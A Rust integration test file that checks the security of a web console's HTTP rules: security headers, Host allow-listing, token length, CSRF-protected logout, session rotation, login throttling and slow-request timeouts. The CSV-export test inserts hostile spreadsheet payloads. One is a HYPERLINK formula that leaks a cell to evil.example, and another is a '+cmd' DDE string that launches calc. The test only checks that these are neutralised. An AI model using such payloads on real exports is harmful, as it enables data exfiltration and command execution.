//! The console's security rules (contract revision 3) read over plain HTTP, as
//! an attacker's client would send it: the headers of every response, the Host
//! allow-list on the console and the worker's port, the token's minimum length,
//! and sessions that end (logout, a new token, expiry).

use std::net::SocketAddr;

use id2meta::config::Config;
use id2meta::console::{self, ConsoleSettings, RunningConsole, StartError};
use id2meta::mock::MockConfig;
use id2meta::secret::Secret;
use reqwest::header::{HeaderMap, COOKIE, LOCATION, ORIGIN, SET_COOKIE};
use reqwest::StatusCode;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio_util::sync::CancellationToken;

use crate::browser::TOKEN;
use crate::helpers::TestEnv;

/// A console of the test, stopped by [`Console::stop`].
pub struct Console {
    pub base: String,
    pub addr: SocketAddr,
    running: RunningConsole,
    shutdown: CancellationToken,
}

impl Console {
    pub async fn start(config: &Config, token: Option<&str>) -> Self {
        let shutdown = CancellationToken::new();
        let settings = ConsoleSettings {
            listen: SocketAddr::from(([127, 0, 0, 1], 0)),
            token: token.map(Secret::new),
            management_url: None,
        };
        let running = console::start(config.clone(), settings, shutdown.clone())
            .await
            .expect("the console starts");
        Self {
            base: format!("http://{}", running.addr),
            addr: running.addr,
            running,
            shutdown,
        }
    }

    pub async fn stop(self) {
        self.shutdown.cancel();
        self.running.wait().await;
    }
}

/// A client that shows redirects instead of following them, and keeps no cookies.
pub fn client() -> reqwest::Client {
    id2meta::tls::http_client()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .expect("a client")
}

/// One raw HTTP/1.1 exchange with any `Host`: the status line and headers.
pub async fn raw(addr: SocketAddr, path: &str, host: &str) -> String {
    let mut stream = tokio::net::TcpStream::connect(addr)
        .await
        .expect("connects");
    let request = format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
    stream.write_all(request.as_bytes()).await.expect("sent");
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer).await.expect("an answer");
    String::from_utf8_lossy(&answer).into_owned()
}

/// Logs in with `token`: the session cookie (`name=value`) and the Set-Cookie line.
pub async fn log_in(base: &str, token: &str) -> (String, String) {
    let answer = client()
        .post(format!("{base}/login"))
        .form(&[("token", token), ("next", "/batches")])
        .send()
        .await
        .expect("the login answers");
    assert_eq!(answer.status(), StatusCode::SEE_OTHER, "logged in");
    let set = answer.headers()[SET_COOKIE]
        .to_str()
        .expect("text")
        .to_string();
    let pair = set.split(';').next().expect("name=value").to_string();
    (pair, set)
}

/// The CSRF token a logged-in page's forms carry.
pub async fn csrf_of(base: &str, cookie: &str) -> String {
    let page = client()
        .get(format!("{base}/batches"))
        .header(COOKIE, cookie)
        .send()
        .await
        .expect("a page")
        .text()
        .await
        .expect("its HTML");
    let start = page.find("name=\"csrf\" value=\"").expect("a CSRF field") + 19;
    page[start..]
        .split('"')
        .next()
        .expect("its value")
        .to_string()
}

/// A cookie-borne POST from the console's own origin.
pub async fn post_form(base: &str, path: &str, cookie: &str, form: &[(&str, &str)]) -> StatusCode {
    client()
        .post(format!("{base}{path}"))
        .header(COOKIE, cookie)
        .header(ORIGIN, base)
        .form(form)
        .send()
        .await
        .expect("an answer")
        .status()
}

fn assert_secured(what: &str, headers: &HeaderMap, data: bool) {
    let get = |name: &str| {
        headers
            .get(name)
            .and_then(|v| v.to_str().ok())
            .unwrap_or_else(|| panic!("{what}: no {name}"))
            .to_string()
    };
    let csp = get("content-security-policy");
    assert!(csp.contains("frame-ancestors 'none'"), "{what}: {csp}");
    assert!(!csp.contains("unsafe-inline"), "{what}: {csp}");
    assert_eq!(get("x-frame-options"), "DENY", "{what}");
    assert_eq!(get("x-content-type-options"), "nosniff", "{what}");
    assert_eq!(get("referrer-policy"), "no-referrer", "{what}");
    if data {
        assert_eq!(get("cache-control"), "no-store", "{what}");
    }
}

#[tokio::test]
async fn every_response_carries_the_security_headers_and_nothing_with_data_is_stored() {
    let env = TestEnv::new(MockConfig::default()).await;
    let console = Console::start(&env.config, Some(TOKEN)).await;
    let base = &console.base;
    let http = client();
    for path in [
        "/",
        "/batches",
        "/batches/b1",
        "/batches/b1/export.csv",
        "/jobs/j1",
        "/login",
        "/no-such-page",
        "/jobs?job_id=j1",
        "/audit",
        "/audit?action=drop",
        "/lookup",
    ] {
        let answer = http
            .get(format!("{base}{path}"))
            .send()
            .await
            .expect("answers");
        assert_secured(&format!("GET {path}"), answer.headers(), true);
    }
    let css = http
        .get(format!("{base}/assets/console.css"))
        .send()
        .await
        .expect("answers");
    assert_secured("the stylesheet", css.headers(), false);
    let refused = http
        .post(format!("{base}/batches/b1/cancel"))
        .send()
        .await
        .expect("answers");
    assert_eq!(refused.status(), StatusCode::FORBIDDEN);
    assert_secured("a refused action", refused.headers(), true);
    let foreign = raw(console.addr, "/", "evil.example").await;
    assert!(foreign.contains("x-frame-options: DENY"), "{foreign}");
    console.stop().await;
    env.cleanup().await;
}

#[tokio::test]
async fn a_request_for_another_host_name_is_refused_before_any_read_on_the_console_and_the_worker_port(
) {
    let env = TestEnv::new(MockConfig::default()).await;
    let mut config = env.config.clone();
    config.allowed_hosts = vec!["console.example".into()];
    let console = Console::start(&config, None).await;
    let worker = env.start_worker_with(config).await;
    let ours = format!("127.0.0.1:{}", console.addr.port());
    for (host, status) in [
        ("evil.example", "421"),
        ("evil.example:9465", "421"),
        ("127.0.0.1.evil.example", "421"),
        (ours.as_str(), "200"),
        ("localhost", "200"),
        ("console.example:443", "200"),
    ] {
        for path in ["/", "/batches/b1/export.csv"] {
            let answer = raw(console.addr, path, host).await;
            assert!(
                answer.starts_with(&format!("HTTP/1.1 {status}")),
                "console {path} for {host}: {answer}"
            );
        }
    }
    let metrics = worker.running.http_addr;
    for (host, status) in [
        ("evil.example", "421"),
        ("localhost:9464", "200"),
        ("console.example", "200"),
    ] {
        let answer = raw(metrics, "/metrics", host).await;
        assert!(
            answer.starts_with(&format!("HTTP/1.1 {status}")),
            "worker /metrics for {host}: {answer}"
        );
    }
    worker.stop().await;
    console.stop().await;
    env.cleanup().await;
}

#[tokio::test]
async fn a_token_shorter_than_32_characters_is_refused_at_start() {
    let env = TestEnv::new(MockConfig::default()).await;
    let settings = |token: &str| ConsoleSettings {
        listen: SocketAddr::from(([127, 0, 0, 1], 0)),
        token: Some(Secret::new(token)),
        management_url: None,
    };
    let short = console::start(
        env.config.clone(),
        settings(&"x".repeat(31)),
        CancellationToken::new(),
    )
    .await;
    assert!(
        matches!(short, Err(StartError::ShortToken(31))),
        "a 31-character token is refused"
    );
    let shutdown = CancellationToken::new();
    let fine = console::start(
        env.config.clone(),
        settings(&"x".repeat(32)),
        shutdown.clone(),
    )
    .await
    .expect("32 characters are enough");
    shutdown.cancel();
    fine.wait().await;
    env.cleanup().await;
}

#[tokio::test]
async fn logout_needs_the_csrf_field_and_ends_the_session_for_good_and_a_new_token_ends_every_session(
) {
    let env = TestEnv::new(MockConfig::default()).await;
    let pool = env.store.pool();
    sqlx::query(
        "INSERT INTO console_sessions (id, secret_sha256, csrf, token_fingerprint, client_addr, expires_at)
         VALUES (gen_random_uuid(), '\\x00', 'c', 'f', '127.0.0.1', now() - interval '1 second')",
    )
    .execute(pool)
    .await
    .expect("an expired session");
    let console = Console::start(&env.config, Some(TOKEN)).await;
    let base = console.base.clone();
    let (cookie, set_cookie) = log_in(&base, TOKEN).await;
    assert!(
        set_cookie.contains("HttpOnly") && set_cookie.contains("SameSite=Strict"),
        "{set_cookie}"
    );
    assert!(
        !set_cookie.contains("Secure"),
        "no Secure without ID2META_CONSOLE_SECURE_COOKIE"
    );
    assert!(
        !cookie.contains(TOKEN) && !cookie.contains(&TOKEN[..8]),
        "the cookie is not the token"
    );
    let sessions: Vec<(String,)> = sqlx::query_as("SELECT csrf FROM console_sessions")
        .fetch_all(pool)
        .await
        .expect("sessions");
    assert_eq!(
        sessions.len(),
        1,
        "one live session; the expired one was swept"
    );
    let csrf = csrf_of(&base, &cookie).await;

    // Logout is an action: without the CSRF field it is refused and ends nothing.
    assert_eq!(
        post_form(&base, "/logout", &cookie, &[]).await,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        post_form(&base, "/batches/b1/cancel", &cookie, &[("csrf", &csrf)]).await,
        StatusCode::SEE_OTHER
    );
    let out = client()
        .post(format!("{base}/logout"))
        .header(COOKIE, &cookie)
        .header(ORIGIN, &base)
        .form(&[("csrf", csrf.as_str())])
        .send()
        .await
        .expect("logged out");
    assert_eq!(out.status(), StatusCode::SEE_OTHER);
    assert_eq!(out.headers()[LOCATION], "/");
    assert!(out.headers()[SET_COOKIE]
        .to_str()
        .expect("text")
        .contains("Max-Age=0"));
    // The old cookie, replayed as it was: no session, no action.
    assert_eq!(
        post_form(&base, "/batches/b2/cancel", &cookie, &[("csrf", &csrf)]).await,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        env.store.batch_cancelled_at("b2").await.expect("read"),
        None,
        "b2 not cancelled"
    );

    // A new token ends every session; the old token back does not revive them.
    let (cookie, _) = log_in(&base, TOKEN).await;
    let csrf = csrf_of(&base, &cookie).await;
    console.stop().await;
    for token in [format!("{TOKEN}-rotated"), TOKEN.to_string()] {
        let console = Console::start(&env.config, Some(&token)).await;
        let form = [("csrf", csrf.as_str())];
        let cancel = post_form(&console.base, "/batches/b3/cancel", &cookie, &form);
        assert_eq!(cancel.await, StatusCode::FORBIDDEN);
        console.stop().await;
    }
    assert_eq!(
        env.store.batch_cancelled_at("b3").await.expect("read"),
        None,
        "b3 not cancelled"
    );

    // Behind TLS the cookie is Secure.
    let mut config = env.config.clone();
    config.console_secure_cookie = true;
    let console = Console::start(&config, Some(TOKEN)).await;
    let (_, set_cookie) = log_in(&console.base, TOKEN).await;
    assert!(set_cookie.contains("; Secure"), "{set_cookie}");
    console.stop().await;
    env.cleanup().await;
}

#[tokio::test]
async fn the_export_writes_formula_cells_as_text_and_impossible_ids_get_a_status_not_a_dropped_connection(
) {
    let env = TestEnv::new(MockConfig::default()).await;
    let formula = "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Click\")";
    sqlx::query(
        "INSERT INTO verification_results (job_id, batch_id, status, attempts, identity_digest, received_at, name_masked)
         VALUES ($1, '@SUM(1+1)', 'invalid', 0, 'd', now(), '=*'), ('+cmd|'' /C calc''!A0', '@SUM(1+1)', 'invalid', 0, 'd', now(), '-*')",
    )
    .bind(formula)
    .execute(env.store.pool())
    .await
    .expect("two hostile rows");
    let console = Console::start(&env.config, None).await;
    let http = client();
    let export = http
        .get(format!(
            "{}/batches/%40SUM%281%2B1%29/export.csv",
            console.base
        ))
        .send()
        .await
        .expect("the export")
        .text()
        .await
        .expect("CSV");
    let mut reader = csv::Reader::from_reader(export.as_bytes());
    let mut cells = 0;
    for record in reader.records() {
        for cell in record.expect("valid CSV").iter() {
            cells += 1;
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} in {export}"
            );
        }
    }
    assert_eq!(cells, 20, "two rows of ten cells: {export}");
    assert!(
        export.contains(&format!("'{}", formula.replace('"', "\"\""))),
        "{export}"
    );
    for path in [
        "/jobs/a%00b",
        "/batches/a%00b",
        "/batches/a%00b/export.csv",
        "/jobs/a%0Ab",
    ] {
        let answer = http.get(format!("{}{path}", console.base)).send().await;
        let answer = answer.unwrap_or_else(|e| panic!("{path}: no answer ({e})"));
        assert_eq!(answer.status(), StatusCode::NOT_FOUND, "{path}");
    }
    console.stop().await;
    env.cleanup().await;
}

#[tokio::test]
async fn the_sixth_wrong_login_in_a_minute_is_answered_429_with_retry_after_even_with_the_right_token(
) {
    let env = TestEnv::new(MockConfig::default()).await;
    let console = Console::start(&env.config, Some(TOKEN)).await;
    let login = |token: &'static str| {
        client()
            .post(format!("{}/login", console.base))
            .form(&[("token", token), ("next", "/")])
            .send()
    };
    for _ in 0..5 {
        let answer = login("not-the-token").await.expect("answers");
        assert_eq!(answer.status(), StatusCode::FORBIDDEN);
    }
    for token in ["not-the-token", TOKEN] {
        let answer = login(token).await.expect("answers");
        assert_eq!(answer.status(), StatusCode::TOO_MANY_REQUESTS, "throttled");
        let wait: u64 = answer.headers()["retry-after"]
            .to_str()
            .expect("text")
            .parse()
            .expect("whole seconds");
        assert!((1..=60).contains(&wait), "Retry-After {wait}");
        assert!(answer.headers().get(SET_COOKIE).is_none(), "no session");
    }
    console.stop().await;
    env.cleanup().await;
}

#[tokio::test]
async fn a_request_whose_headers_never_finish_is_closed_on_the_console_and_the_worker_port() {
    let env = TestEnv::new(MockConfig::default()).await;
    let console = Console::start(&env.config, None).await;
    let worker = env.start_worker().await;
    let half = |addr: SocketAddr| async move {
        let mut stream = tokio::net::TcpStream::connect(addr)
            .await
            .expect("connects");
        stream
            .write_all(b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n")
            .await
            .expect("half a request");
        let mut seen = Vec::new();
        // The contract's 10 s, with room for a loaded machine; never forever.
        tokio::time::timeout(
            std::time::Duration::from_secs(60),
            stream.read_to_end(&mut seen),
        )
        .await
        .expect("the server closed the unfinished request")
        .expect("read");
    };
    tokio::join!(half(console.addr), half(worker.running.http_addr));
    worker.stop().await;
    console.stop().await;
    env.cleanup().await;
}
